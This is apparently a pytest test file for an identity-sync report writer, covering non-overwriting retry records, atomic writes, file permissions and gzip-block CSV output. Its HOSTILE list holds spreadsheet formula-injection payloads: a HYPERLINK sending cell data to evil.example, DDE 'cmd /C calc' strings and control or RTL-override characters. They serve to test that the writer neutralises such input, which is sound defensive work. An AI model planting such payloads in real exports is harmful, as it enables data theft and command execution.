"""report: plan.csv.gz vs changes.try-<n>.csv.gz, never overwritten, and safe to open in a spreadsheet."""

from __future__ import annotations

import gzip
from pathlib import Path

import pandas as pd
import pytest

from identity_sync.reconcile import SYNC_REASON, Plan, plan_changes
from identity_sync.report import (
    ISSUES_REPORT,
    PLAN_REPORT,
    RunFiles,
    change_report,
    read_csv_gz,
    spreadsheet_safe,
    write_changes_report,
    write_frame_report,
    write_plan_reports,
)
from tests.unit.test_report import U1, U3, U4, _pool, _table


@pytest.fixture
def plan() -> Plan:
    return plan_changes(
        _pool([("sub-1", "new@x.io", U1), ("sub-3", "inserted@x.io", U3), ("sub-9", "bad@x.io", "not-a-uuid")]),
        _table([(1, U1, "prod-1", "old@x.io"), (4, U4, "prod-4", "gone@x.io")]),
        stale_policy="clear",
    )


@pytest.fixture
def files(tmp_path: Path) -> RunFiles:
    return RunFiles.for_run(f"file://{tmp_path}", "cognito_user_sync", "manual__2026-11-20T10:00:00+00:00", "dev")


def _folder(files: RunFiles) -> Path:
    return Path(files.path("x").parent.path)


def _empty(plan: Plan) -> Plan:
    return Plan(changes=plan.changes.iloc[0:0], inserts=plan.inserts.iloc[0:0], issues=plan.issues.iloc[0:0])


def test_plan_step_writes_a_plan_named_as_such_and_no_record_of_writes(files: RunFiles, plan: Plan) -> None:
    """Issue 8: a plan that was not applied (dry run, refused) must never look like a record of writes."""
    paths = write_plan_reports(files, plan, reason="restore from prod 2026-11-20")

    assert paths == {"plan": f"{files.base}/{PLAN_REPORT}", "issues": f"{files.base}/{ISSUES_REPORT}"}
    assert sorted(p.name for p in _folder(files).iterdir()) == [ISSUES_REPORT, PLAN_REPORT]
    planned = read_csv_gz(files, PLAN_REPORT)
    assert len(planned) == len(change_report(plan)) == 7
    assert set(planned["run_reason"]) == {"restore from prod 2026-11-20"}
    assert list(read_csv_gz(files, ISSUES_REPORT)["reason"]) == [SYNC_REASON["invalid_id"]]
    with gzip.open(_folder(files) / PLAN_REPORT, "rt") as text:  # readable with zcat
        assert (
            text.readline().strip() == '"InternalUserID","UserID","column","old","new","category","reason","run_reason"'
        )


def test_a_retry_never_replaces_the_record_of_an_earlier_trys_writes(files: RunFiles, plan: Plan) -> None:
    """Issue 7 item 7: a cleared task replaced a changes.csv of 46 lines with a header-only file."""
    first = write_changes_report(files, plan, try_number=1, reason="nightly")
    # The retry finds the table already at the plan's state and writes nothing.
    second = write_changes_report(files, _empty(plan), try_number=2, reason="nightly")

    assert first.endswith("/changes.try-1.csv.gz")
    assert second.endswith("/changes.try-2.csv.gz")
    assert len(read_csv_gz(files, "changes.try-1.csv.gz")) == 7
    assert read_csv_gz(files, "changes.try-2.csv.gz").empty


def test_a_second_record_for_the_same_try_is_written_beside_the_first(files: RunFiles, plan: Plan) -> None:
    write_changes_report(files, plan, try_number=3, reason="r")
    again = write_changes_report(files, _empty(plan), try_number=3, reason="r")

    assert again.endswith("/changes.try-3.2.csv.gz")
    assert len(read_csv_gz(files, "changes.try-3.csv.gz")) == 7


def test_a_record_is_never_overwritten(files: RunFiles) -> None:
    files.write_text("record.txt", "first", replace=False)

    with pytest.raises(FileExistsError):
        files.write_text("record.txt", "second", replace=False)
    assert files.read_text("record.txt") == "first"
    assert sorted(p.name for p in _folder(files).iterdir()) == ["record.txt"]  # no temporary left behind


def test_a_write_that_fails_midway_leaves_the_previous_file_whole(files: RunFiles) -> None:
    files.write_text("plan.txt", "complete")

    def explode(handle) -> None:
        handle.write(b"half")
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        files.write_bytes_with("plan.txt", explode)
    assert files.read_text("plan.txt") == "complete"
    assert sorted(p.name for p in _folder(files).iterdir()) == ["plan.txt"]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    'say "hi", then\nnew line',
    "nul\x00bell\x07esc\x1b[31mred",
    "rtl\u202etxt.exe",
    "plain@example.com",
]


def test_hostile_values_are_neutralised_in_every_text_cell(files: RunFiles) -> None:
    """Issue 7 item 13: formula starts and control characters were written raw."""
    frame = pd.DataFrame({"UserID": range(len(HOSTILE)), "new": HOSTILE, "reason": HOSTILE})
    write_frame_report(files, "hostile.csv.gz", frame)

    with gzip.open(_folder(files) / "hostile.csv.gz", "rt", newline="") as text:
        raw = text.read()
    lines = raw.split("\n")
    assert len(lines) == len(HOSTILE) + 2  # header, one line per row, final newline: no embedded line breaks
    read = read_csv_gz(files, "hostile.csv.gz")
    for column in ("new", "reason"):
        cells = list(read[column])
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
        assert not any(ch in cell for cell in cells for ch in "\x00\x07\x1b\n\r\t\u202e")
        assert cells[0] == "'" + HOSTILE[0]
        assert cells[4] == "'\\x09=1+1"
        assert cells[7] == 'say "hi", then\\x0anew line'  # quotes kept (doubled on disk), newline escaped
        assert cells[8] == "nul\\x00bell\\x07esc\\x1b[31mred"
        assert cells[9] == "rtl\\u202etxt.exe"
        assert cells[10] == "plain@example.com"
    assert '"say ""hi"", then\\x0anew line"' in raw
    assert list(read["UserID"]) == [str(n) for n in range(len(HOSTILE))]


def test_spreadsheet_safe_keeps_missing_values_missing() -> None:
    safe = spreadsheet_safe(pd.Series(["a", None, "=b"], dtype="object"))

    assert list(safe.fillna("<NA>")) == ["a", "<NA>", "'=b"]


def test_files_are_owner_only_and_folders_private(tmp_path: Path, plan: Plan) -> None:
    """Issue 7 item 14: pool.parquet and the reports were world-readable (0644)."""
    files = RunFiles.for_run(f"file://{tmp_path}/snapshots", "cognito_user_sync", "run-1", "dev")

    files.write_parquet("pool.parquet", pd.DataFrame({"email": ["a@x.io"]}))
    files.save_plan(plan)
    write_plan_reports(files, plan, reason="r")
    write_changes_report(files, plan, try_number=1, reason="r")

    base = tmp_path / "snapshots"
    written = [p for p in base.rglob("*")]
    assert {p.stat().st_mode & 0o777 for p in written if p.is_file()} == {0o600}
    assert {p.stat().st_mode & 0o777 for p in written if p.is_dir()} == {0o700}
    assert len([p for p in written if p.is_file()]) == 8


def test_an_existing_folder_keeps_its_mode(tmp_path: Path) -> None:
    """The snapshot base may be shared: only folders we create are restricted."""
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o755)
    shared.chmod(0o755)

    RunFiles.for_run(f"file://{shared}", "dag", "run", "dev").write_text("a.txt", "x")

    assert shared.stat().st_mode & 0o777 == 0o755
    assert (shared / "dag").stat().st_mode & 0o777 == 0o700


def test_object_stores_are_written_without_chmod(monkeypatch: pytest.MonkeyPatch) -> None:
    """On s3:// (here fsspec's memory store, same code path) there is no POSIX mode to set: no error."""
    from upath import UPath

    import identity_sync.runfiles as runfiles

    monkeypatch.setattr(runfiles, "_storage_path", UPath)
    files = RunFiles("memory://bucket/snapshots/dag/run/dev")

    location = files.write_text("summary.md", "hello")
    files.write_text("record.txt", "first", replace=False)

    assert location == "memory://bucket/snapshots/dag/run/dev/summary.md"
    assert files.read_text("summary.md") == "hello"
    with pytest.raises(FileExistsError):
        files.write_text("record.txt", "second", replace=False)
    assert files.read_text("record.txt") == "first"


def test_categorical_columns_are_made_safe_through_their_categories() -> None:
    values = pd.Series(pd.Categorical(["=cmd", None, "ok", "=cmd", "tab\there"]))

    safe = spreadsheet_safe(values)

    assert list(safe.fillna("<NA>")) == ["'=cmd", "<NA>", "ok", "'=cmd", "tab\\x09here"]


def test_a_failed_write_to_an_object_store_leaves_no_object(monkeypatch: pytest.MonkeyPatch) -> None:
    from upath import UPath

    import identity_sync.runfiles as runfiles

    monkeypatch.setattr(runfiles, "_storage_path", UPath)
    files = RunFiles("memory://bucket/snapshots/dag/run-failed/dev")

    def explode(handle) -> None:
        handle.write(b"half a report")
        raise RuntimeError("worker killed")

    with pytest.raises(RuntimeError):
        files.write_bytes_with("plan.csv.gz", explode)
    assert not files.exists("plan.csv.gz")


def test_a_report_in_several_gzip_blocks_reads_as_one_csv(files: RunFiles, monkeypatch: pytest.MonkeyPatch) -> None:
    """Blocks are compressed on two threads as gzip members of their own: one header, every row once, in order."""
    import io

    import pyarrow as pa
    import pyarrow.csv as pa_csv

    from identity_sync import report

    frame = pd.DataFrame(
        {
            "InternalUserID": pd.Series([f"id-{n:02d}" for n in range(10)], dtype="string"),
            "UserID": pd.Series(range(10), dtype="int64"),
            "new": pd.Series(["=cmd", None, "plain", *["x"] * 7], dtype="string"),
        }
    )
    whole = io.BytesIO()
    pa_csv.write_csv(
        pa.Table.from_pandas(report.safe_frame(frame), preserve_index=False),
        whole,
        write_options=pa_csv.WriteOptions(quoting_style="all_valid"),
    )
    monkeypatch.setattr(report, "CSV_BLOCK_ROWS", 3)
    monkeypatch.setattr(report, "CSV_BLOCKS_AHEAD", 1)

    write_frame_report(files, "blocks.csv.gz", frame)

    raw = (_folder(files) / "blocks.csv.gz").read_bytes()
    assert raw.count(b"\x1f\x8b\x08") >= 4  # four members: rows 0-2, 3-5, 6-8, 9
    assert gzip.decompress(raw) == whole.getvalue()
    read = read_csv_gz(files, "blocks.csv.gz")
    assert list(read["InternalUserID"]) == [f"id-{n:02d}" for n in range(10)]
    assert list(read["new"][:3]) == ["'=cmd", "", "plain"]


def test_an_empty_report_in_blocks_is_its_header(files: RunFiles, monkeypatch: pytest.MonkeyPatch) -> None:
    from identity_sync import report

    monkeypatch.setattr(report, "CSV_BLOCK_ROWS", 3)
    write_frame_report(files, "empty.csv.gz", pd.DataFrame({"a": pd.Series([], dtype="string")}))

    assert gzip.decompress((_folder(files) / "empty.csv.gz").read_bytes()) == b'"a"\n'
